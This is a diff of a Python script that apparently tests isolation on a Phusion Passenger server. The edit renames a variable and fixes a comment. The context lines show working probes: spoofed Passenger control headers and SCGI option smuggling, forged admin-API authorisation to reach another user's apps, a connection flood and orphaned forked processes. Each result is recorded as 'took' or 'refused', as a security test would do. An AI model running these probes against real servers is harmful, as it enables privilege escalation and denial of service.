@@ -39,10 +39,10 @@ def talk(path, say):
     s.settimeout(20)
     s.connect(path)
     s.sendall(say)
-    answer = b""
+    reply = b""
     while more := s.recv(4096):
-        answer += more
-    return answer
+        reply += more
+    return reply
 
 def head(method, target, headers):
     lines = ["%s %s HTTP/1.1" % (method, target), "Host: victim.test", "Connection: close"]
@@ -61,8 +61,8 @@ def connect(result, paths, front, victim):
         header += [("X-Passenger-Options", "app-root, user, app-start-command"), ("!~Passenger-Password", "x"), ("!~Passenger-Envvars", "QQA="),
             ("X-Forwarded-For", "192.0.2.66"), ("X-Forwarded-Proto", "https")]
         for how, say in ("HTTP", head("GET", "/", header)), ("SCGI", scgi([("PASSENGER_" + k.upper(), v) for k, v in options + more])):
-            answer = talk(front, say)
-            result["refused" if b" 403 " in answer.split(b"\n")[0] + b" " else "took"]["%s with %s" % (how, name)] = answer.decode()[:300]
+            reply = talk(front, say)
+            result["refused" if b" 403 " in reply.split(b"\n")[0] + b" " else "took"]["%s with %s" % (how, name)] = reply.decode()[:300]
     # The admin API shows a user their own applications, and does nothing to those of others.
     group = json.dumps({"name": victim + " (production)", "method": "blocking"})
     calls = [("GET", "/pool.json?form=snapshot", ""), ("GET", "/pool.txt", ""), ("GET", "/config.json", ""), ("GET", "/server.json", ""),
@@ -72,11 +72,11 @@ def connect(result, paths, front, victim):
             for header in [], [("Authorization", "Basic YWRtaW46eA==")]:
                 what = "%s %s %s %s" % (path, method, target, header)
                 try:
-                    answer = talk(path, head(method, target, header + [("Content-Type", "application/json"), ("Content-Length", len(body))]) + body.encode()).decode()
+                    reply = talk(path, head(method, target, header + [("Content-Type", "application/json"), ("Content-Length", len(body))]) + body.encode()).decode()
                 except Exception as e:
-                    answer = repr(e)
-                theirs = victim in answer or " 200 " in answer.split("\r\n")[0] and not target.startswith(("/pool.", "/server."))
-                result["took" if theirs else "refused"][what] = answer[:200]
+                    reply = repr(e)
+                theirs = victim in reply or " 200 " in reply.split("\r\n")[0] and not target.startswith(("/pool.", "/server."))
+                result["took" if theirs else "refused"][what] = reply[:200]
 
 # Half heads, by both protocols, and no heads at all.
 def flood(result, front, n):
@@ -92,7 +92,7 @@ def flood(result, front, n):
         held.append(s)
     result["refused"]["connections"] = str(len(held))
 
-# Processes that have nothing left of whom has started them.
+# Processes that have nothing left of what has started them.
 def fork(result, n):
     for i in range(n):
         if os.fork() == 0:
